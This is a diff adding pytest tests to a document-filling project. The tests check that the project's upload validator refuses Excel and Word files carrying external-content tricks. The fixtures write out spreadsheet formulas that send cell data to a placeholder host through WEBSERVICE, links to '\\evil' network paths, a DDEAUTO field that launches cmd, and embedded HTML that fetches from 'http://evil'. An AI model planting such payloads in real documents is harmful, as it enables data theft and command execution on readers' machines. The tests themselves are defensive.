@@ -4,20 +4,34 @@ from __future__ import annotations
 
 import io
 import zipfile
+from collections.abc import Callable
 from typing import Any
 
 import pytest
 from openpyxl.formatting.rule import FormulaRule
 from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.table import Table, TableFormula
 
 from expertpool.core.filling import TemplateRefused
 from expertpool.core.filling.filler import check
 from expertpool.files.exceptions import FileRefused
 from expertpool.files.validators import detect_type
-from tests.core.filling.office import PACKAGE, REL, book_bytes, changed, docx_bytes, run
+from tests.core.filling.office import (
+    PACKAGE,
+    REL,
+    W,
+    add_part,
+    book_bytes,
+    changed,
+    docx_bytes,
+    run,
+)
 from tests.core.filling.test_filling import make_book
 
 FIELDS = {"项目名称": "甲"}
+COLUMNS = {"专家.姓名": "王", "专家.序号": "1", "专家.电话": "1"}
+DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
 TEXT = run("{{项目名称}}")
 BEGIN, END = (
     '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
@@ -70,6 +84,125 @@ def with_format(formula: str) -> bytes:
     book: Any = make_book()
     book.active.conditional_formatting.add("A1", FormulaRule(formula=[formula]))
     return book_bytes(book)
+
+
+def with_entry(formula: str) -> bytes:
+    book: Any = make_book()
+    entry = DataValidation(type="custom", formula1=formula)
+    entry.add("A1")
+    book.active.add_data_validation(entry)
+    return book_bytes(book)
+
+
+def in_a_cell(formula: str) -> bytes:
+    return book_bytes(make_book(D1=f"={formula}"))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        """'"''x'!A1&WEBSERVICE("http://x/"&A1)&'"''x'!A1""",  # the sheet's name would hide the call
+        r"'\\evil\s\[x.xlsx]S'!$A$1=1",
+        "'http://x/[x.xlsx]S'!$A$1=1",
+        "[x.xlsx]S!$A$1=1",
+        "'c:x.xlsx'!total=1",
+        "x.xlsx!total=1",
+        "T1[a'[b]+WEBSERVICE(A1)+T1[c']]",
+        "A1:WEBSERVICE (A1)",
+    ],
+)
+@pytest.mark.parametrize(
+    "place", [in_a_cell, lambda text: with_name("别处", text), with_format, with_entry]
+)
+def test_no_formula_leaves_its_book_wherever_it_stands(
+    formula: str, place: Callable[[str], bytes]
+) -> None:
+    found = refused(place(formula))
+    assert "取外部内容" in found or "不能用函数 WEBSERVICE" in found
+
+
+def test_formulas_of_tables_are_looked_at() -> None:
+    assert "不能用函数 WEBSERVICE" in refused(with_table('WEBSERVICE("http://x/"&A1)'))
+    assert detects(with_table('WEBSERVICE("http://x/"&A1)')) == "fetches"
+
+
+def with_table(formula: str) -> bytes:
+    book: Any = make_book()
+    sheet = book.active
+    for place, value in {"H1": "a", "I1": "b", "H2": 1, "I2": 2}.items():
+        sheet[place] = value
+    table = Table(displayName="T1", ref="H1:I2")
+    table._initialise_columns()
+    for column, name in zip(table.tableColumns, "ab", strict=True):
+        column.name = name
+    table.tableColumns[1].calculatedColumnFormula = TableFormula(attr_text=formula)
+    sheet.add_table(table)
+    return book_bytes(book)
+
+
+def with_drawing(**facts: str) -> bytes:
+    said = " ".join(f'{name}="{value}"' for name, value in facts.items())
+    drawing = (
+        f'<d:wsDr xmlns:d="{DRAWING}"><d:twoCellAnchor><d:sp {said}/></d:twoCellAnchor></d:wsDr>'
+    )
+    sheet = "xl/worksheets/sheet1.xml"
+    content = book_bytes(make_book())
+    return add_part(content, "xl/drawings/drawing1.xml", to=sheet, kind="drawing", data=drawing)
+
+
+def test_a_drawing_starts_nothing_and_shows_nothing_from_elsewhere() -> None:
+    elsewhere = with_drawing(macro="'\\\\evil\\s\\x.xlsm'!run", textlink="")
+    assert "宏" in refused(elsewhere)
+    assert detects(elsewhere) == "fetches"
+    assert "取外部内容" in refused(with_drawing(macro="", textlink="'http://x/[x.xlsx]S'!$A$1"))
+    # What is left of a macro of the book itself, saved without macros, starts nothing.
+    assert detects(with_drawing(macro="[0]!Button1_Click")) == ".xlsx"
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        """'a"b'!A1""",
+        "SUM('a\"b'!A1:A3)*1.5E+3",
+        "SUBTOTAL(9,T1[金额(元)])",
+        'IF(A1="[x]|",{1,2;3,4},#REF!)',
+    ],
+)
+def test_what_stands_in_the_book_is_taken(formula: str) -> None:
+    book: Any = make_book(D1=f"={formula}")
+    book.create_sheet('a"b')["A1"] = 1
+    content = io.BytesIO(book_bytes(book))
+    assert check(content, fields=FIELDS, columns=COLUMNS, required=()) == "xlsx"
+
+
+DDE = f'<w:x xmlns:w="{W}"><w:p><w:fldSimple w:instr="DDEAUTO c:/cmd x"/></w:p></w:x>'
+
+
+@pytest.mark.parametrize(
+    "part",
+    ["word/comments.xml", "word/glossary/document.xml", "word/comments.dat", "other/comments.xml"],
+)
+def test_fields_are_found_in_every_part(part: str) -> None:
+    content = docx_bytes(f"<w:p>{TEXT}</w:p>", more={part: DDE})
+    assert "不能用的域「DDEAUTO」" in refused(content)
+    assert detects(content) == "fetches"
+
+
+@pytest.mark.parametrize("kind", ["aFChunk", "subDocument", "frame"])
+def test_nothing_else_is_brought_in(kind: str) -> None:
+    relation = f'<Relationship Id="rIdA" Type="{REL}/{kind}" Target="chunk.htm"/>'
+    page = b"<html><img src='http://evil/x.png'></html>"
+    content = docx_bytes(f"<w:p>{TEXT}</w:p>", relations=relation, more={"word/chunk.htm": page})
+    assert "插入了别的文件或网页" in refused(content)
+    assert detects(content) == ("brought in" if kind == "aFChunk" else ".docx")
+
+
+def detects(content: bytes) -> str:
+    """Return how the door of attachments takes a file, or why it does not."""
+    try:
+        return detect_type(io.BytesIO(content)).extensions[0]
+    except FileRefused as error:
+        return "fetches" if "到别处取内容" in str(error) else "brought in" * ("网页" in str(error))
 
 
 @pytest.mark.shows("OPS-04")
